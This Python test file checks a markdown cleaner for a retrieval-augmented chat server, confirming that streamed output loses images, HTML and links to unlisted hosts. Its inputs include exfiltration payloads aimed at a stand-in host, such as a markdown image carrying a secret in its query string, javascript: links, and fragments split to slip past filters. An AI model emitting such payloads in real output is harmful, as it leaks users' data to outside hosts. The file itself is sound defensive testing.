from __future__ import annotations

import re

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from markdown_it.token import Token

from rag_server.generation.markdown import (
    MAX_ADDRESS,
    MAX_LINK_TEXT,
    MAX_TAG,
    MarkdownCleaner,
    addresses_in,
    normal,
)
from rag_server.testing.generator_suite import source
from tests.unit.rag_server.generation.splitting import CUTS, pieces

GOOD = "https://good.example/a?b=1"
ALLOWED = frozenset({normal(GOOD)})


def cleaned(parts: list[str] | str) -> str:
    cleaner = MarkdownCleaner(ALLOWED)
    given_parts = [parts] if isinstance(parts, str) else parts
    return "".join(cleaner.feed(part) for part in given_parts) + cleaner.end()


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("plain words, 3 < 4 and 5 > 2!", "plain words, 3 < 4 and 5 > 2!"),
        ("see ![chart](https://evil.example/?q=secret) here", "see chart here"),
        (f"see ![chart]({GOOD})", f"see [chart]({GOOD})"),
        (f"see [the page]({GOOD})", f"see [the page]({GOOD})"),
        (f'see [the page]({GOOD} "a title")', f"see [the page]({GOOD})"),
        ("see [the page](https://evil.example/x).", "see the page."),
        ("see [the page](<https://evil.example/x y>).", "see the page."),
        ("see [the page](javascript:alert(1)).", "see the page."),
        ("see [the page](//evil.example/x).", "see the page."),
        ("see [the page](/local).", "see the page."),
        ("a [1](https://evil.example) b", "a [1] b"),
        ("a [[1]](https://evil.example) b", "a [1] b"),
        ("so https://evil.example/x?y=1, then", "so , then"),
        (f"so {GOOD}, then", f"so {GOOD}, then"),
        (f"so {GOOD.replace('good', 'GOOD')}.", f"so {GOOD.replace('good', 'GOOD')}."),
        ("so HTTP://evil.example", "so "),
        ("so www.evil.example/x, then", "so , then"),
        ("so <https://evil.example> then", "so  then"),
        (f"so <{GOOD}> then", f"so <{GOOD}> then"),
        ('so <img src="https://evil.example/x.png"> then', "so  then"),
        ("a <b>bold</b> word", "a bold word"),
        ("<!-- hidden --> word", " word"),
        ("[x]: https://evil.example", "[x] : "),
        ("[1]: as it says", "[1] : as it says"),
        ("![x][y] and [x][y]", "[x][y] and [x][y]"),
        ("1[a\n\nb](", "1[a\n\nb] ("),
        ("[" + "a" * MAX_LINK_TEXT + "](", "[" + "a" * MAX_LINK_TEXT + "] ("),
        ("Great![1] And [2]", "Great![1] And [2]"),
        ("ends with !", "ends with !"),
        ("ends with [", "ends with ["),
        ("ends with [x](http", "ends with [x] (http"),
        (f"so {GOOD}[1] and `{GOOD}`", f"so {GOOD} [1] and `{GOOD} `"),
        (f"so {GOOD}<b>x", f"so {GOOD} x"),
        ("ends with <a href", "ends with &lt;a href"),
        ("with who and why", "with who and why"),
        ("a [b](https://evil.example)(//evil.example)", "a b\u200b(//evil.example)"),
        ("htt[p](x)://evil.example", "htt\u200bp\u200b://evil.example"),
        ("ht<b>tp://evil.example", "ht\u200btp://evil.example"),
        ("ww<b>w.evil.example", "ww\u200bw.evil.example"),
        ("ww[w](x).evil.example", "ww\u200bw\u200b.evil.example"),
    ],
)
def test_cleaning_takes_out_what_harms_and_leaves_the_rest(text: str, expected: str) -> None:
    assert cleaned(text) == expected
    assert cleaned(list(text)) == expected


@pytest.mark.parametrize(
    "text",
    [
        "[x](" + "//evil.example/" + "a" * (MAX_ADDRESS + 10) + ")",
        "[" + "a" * (MAX_LINK_TEXT + 10) + "](//evil.example)",
        "<a" + " b" * MAX_TAG + " href=//evil.example>x</a>",
        "https://evil.example/" + "a" * (2 * MAX_ADDRESS),
        "[" * 500,
        "![" * 500 + "x](//evil.example)",
        "[a" * 200 + "](//evil.example)" * 200,
    ],
    ids=range(7),
)
def test_what_is_longer_than_is_looked_ahead_is_defused(text: str) -> None:
    assert_harmless(cleaned(text))
    assert cleaned(list(text)) == cleaned(text)


def test_words_are_told_at_once() -> None:
    cleaner = MarkdownCleaner(frozenset())
    assert cleaner.feed("It waits at dawn ") == "It waits at dawn "
    assert cleaner.feed("[1") == ""
    assert cleaner.feed("].") == "[1]."


def test_addresses_of_sources_are_those_of_texts_and_origins() -> None:
    sources = [
        source("See https://a.example/x. (Also <HTTP://B.example/Y/>)", source_uri="https://c.example/d.md"),
        source("none", 1),
    ]
    assert addresses_in(sources) == {"a.example/x", "b.example/Y", "c.example/d.md"}


MARKDOWN = MarkdownIt("commonmark")


def assert_harmless(text: str) -> None:
    """Read `text` as a renderer does: no image, no HTML, no link but the good one."""

    def look(tokens: list[Token]) -> None:
        for token in tokens:
            assert token.type not in {"image", "html_inline", "html_block"}, text
            if token.type == "link_open":
                assert normal(str(token.attrs["href"])) in ALLOWED, text
            look(token.children or [])

    look(MARKDOWN.parse(text))
    rest = re.sub(rf"(?<=\]\(){re.escape(GOOD)}(?=\))|(?<=<){re.escape(GOOD)}(?=>)", "", text)
    for address in re.findall(r"(?:https?://|www\.)[^\s<]+", rest, re.IGNORECASE):
        assert normal(address) in ALLOWED or not normal(address), text


FRAGMENTS = st.sampled_from(
    [
        "[",
        "]",
        "(",
        ")",
        "!",
        "<",
        ">",
        "\\",
        "\n",
        " ",
        ":",
        "a",
        "1",
        "w",
        "htt",
        "p",
        "s://",
        "://",
        "//",
        "ww",
        "w.",
        "evil.example",
        "https://evil.example/x",
        GOOD,
        "[x](",
        "![y](",
        "](",
        "]:",
        "<img src=",
        "<b>",
        "</b>",
        "<!--",
        "-->",
        '"',
        "javascript:x",
    ]
)
HOSTILE = st.lists(FRAGMENTS, max_size=14).map("".join)


@settings(max_examples=400)
@given(HOSTILE, CUTS)
@example("[](\\)", [1])
def test_cleaning_does_not_depend_on_how_the_stream_is_cut(text: str, cuts: list[int]) -> None:
    assert cleaned(pieces(text, cuts)) == cleaned(text)


@settings(max_examples=600)
@given(HOSTILE)
def test_cleaned_text_holds_nothing_that_harms(text: str) -> None:
    assert_harmless(cleaned(text))


@given(st.text(alphabet=st.characters(exclude_characters="!<[]hHwW", codec="utf-8"), max_size=200))
def test_text_without_markup_stays_as_it_is(text: str) -> None:
    assert cleaned(text) == text
